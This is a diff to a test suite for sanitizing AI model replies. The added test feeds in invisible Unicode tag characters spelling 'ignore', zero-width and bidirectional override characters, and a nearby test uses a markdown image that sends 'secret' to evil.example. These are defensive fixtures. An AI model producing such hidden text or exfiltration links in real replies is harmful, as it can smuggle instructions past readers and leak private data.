@@ -176,6 +176,22 @@ verifies('runs:model-errors', 'text that a provider refuses is made safe and sen
   )
 })
 
+verifies(
+  'runs:reply-hygiene',
+  'a reply hides nothing and turns no text around, in code too; what people write with stays',
+  async () => {
+    const tags = [...'ignore'].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0)))
+    await using model = await startStubAnthropic([
+      {
+        text: `Pa\u200bid${tags.join('')} \u202ecba\u202c \u2066x\u2069 \u{e0101}👩\u200d💻 ❤\ufe0f\u2028next \`a\u202eb\``,
+      },
+    ])
+    await using shop = await startShopOn(await sharedApp(), { model })
+    await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+    assert.equal((await shop.replies())[0]?.text, 'Paid cba x 👩\u200d💻 ❤\ufe0f\nnext `ab`')
+  },
+)
+
 verifies('runs:reply-hygiene', 'a reply mentions no groups and loads no image', async () => {
   await using model = await startStubAnthropic([
     { text: 'Hey @everyone, <!channel> look: ![x](https://evil.example/?q=secret)' },
